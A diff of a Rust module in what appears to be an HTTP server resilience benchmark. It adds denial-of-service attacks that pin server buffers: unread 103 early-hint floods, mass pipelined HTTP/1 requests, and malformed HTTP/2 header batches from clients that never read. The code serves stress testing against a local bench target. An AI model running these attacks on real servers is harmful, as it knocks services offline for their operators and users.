@@ -1,14 +1,13 @@
 //! Small pieces that pin large buffers, towards a peer that does not read.
 
 use std::collections::BTreeMap;
-use std::io;
 use std::sync::atomic::{AtomicUsize, Ordering};
 use std::time::{Duration, Instant};
 
 use super::{ATTACK, Attack, Target, Toll, pause, together};
 use crate::frame::{
-    DATA, END_HEADERS, Frame, HEADERS, SETTINGS, WHOLE, WINDOW_DEFAULT, WINDOW_UPDATE, frame, get, number, post,
-    take_frame,
+    DATA, END_HEADERS, Frame, HEADERS, SETTINGS, STREAM_MAX, WHOLE, WINDOW_DEFAULT, WINDOW_UPDATE, field, frame, get,
+    number, post, take_frame,
 };
 use crate::peer::Peer;
 
@@ -23,6 +22,9 @@ const EXTENSION_BYTES: usize = 4000;
 /// A route that keeps a request's body so that it can be sent again.
 const WITH_REPLAY: &str = ", timeout: 0s, retry_policy: { retry_on: 5xx, num_retries: 1 }";
 const HEADS_REQUESTS: usize = 3_000;
+const READERS: usize = 20;
+/// Requests of one client, as many as a socket takes and more.
+const PIPELINED: usize = 100_000;
 const PAUSE: Duration = Duration::from_millis(1);
 
 pub(super) const ATTACKS: &[Attack] = &[
@@ -67,7 +69,25 @@ pub(super) const ATTACKS: &[Attack] = &[
     Attack {
         name: "unread_chunk_extensions",
         about: "responses of 1-byte chunks with extensions of 4,000 that 20 clients do not read",
-        run: leave_chunks_unread,
+        run: |target| leave_unread(target, b"GET /chunks HTTP/1.1\r\nhost: bench\r\n\r\n"),
+        ..Attack::DEFAULT
+    },
+    Attack {
+        name: "unread_early_hints",
+        about: "endless 103 responses of 4 KB that 20 clients do not read",
+        run: |target| leave_unread(target, b"GET /hints HTTP/1.1\r\nhost: bench\r\n\r\n"),
+        ..Attack::DEFAULT
+    },
+    Attack {
+        name: "unread_pipelined_responses",
+        about: "HTTP/1 requests as fast as they are taken from 20 clients that do not read",
+        run: |target| leave_unread(target, &b"GET / HTTP/1.1\r\nhost: bench\r\n\r\n".repeat(PIPELINED)),
+        ..Attack::DEFAULT
+    },
+    Attack {
+        name: "unread_refusals",
+        about: "malformed HTTP/2 heads as fast as they are taken from 2 clients that do not read",
+        run: leave_refusals_unread,
         ..Attack::DEFAULT
     },
     Attack {
@@ -179,17 +199,32 @@ impl Windows {
     }
 }
 
-fn leave_chunks_unread(target: &Target) -> Toll {
-    const READERS: usize = 20;
+/// Clients that send this for as long as it is taken, and read nothing.
+fn leave_unread(target: &Target, requests: &[u8]) -> Toll {
     let until = Instant::now() + ATTACK;
-    let open = |_| -> io::Result<Peer> {
-        let mut peer = Peer::connect_narrow(target.at)?;
-        peer.send_unread(b"GET /chunks HTTP/1.1\r\nhost: bench\r\n\r\n", until)?;
-        Ok(peer)
-    };
-    let readers: Vec<Peer> = (0..READERS).filter_map(|number| open(number).ok()).collect();
+    let mut readers: Vec<Peer> = (0..READERS).filter_map(|_| Peer::connect_narrow(target.at).ok()).collect();
+    readers.retain_mut(|peer| peer.write_some(requests).is_ok());
     pause(until, ATTACK);
     Toll { told: format!("{} clients", readers.len()), ..Toll::default() }
+}
+
+fn leave_refusals_unread(target: &Target) -> Toll {
+    let refused = |stream| frame(HEADERS, WHOLE, stream, &[get(b"/"), field(b"X-Upper", b"a")].concat());
+    let sent = together(CLIENTS, |until| {
+        let mut sent = 0;
+        while Instant::now() < until {
+            let Ok(mut peer) = Peer::http2(target.at, &[]) else { continue };
+            for first in (1..STREAM_MAX).step_by(2 * BATCH) {
+                let batch: Vec<u8> = (first..).step_by(2).take(BATCH).flat_map(refused).collect();
+                if Instant::now() >= until || peer.send_unread(&batch, until).is_err() {
+                    break;
+                }
+                sent += BATCH;
+            }
+        }
+        sent
+    });
+    Toll { told: format!("{sent} requests"), ..Toll::default() }
 }
 
 fn leave_heads_unread(target: &Target) -> Toll {
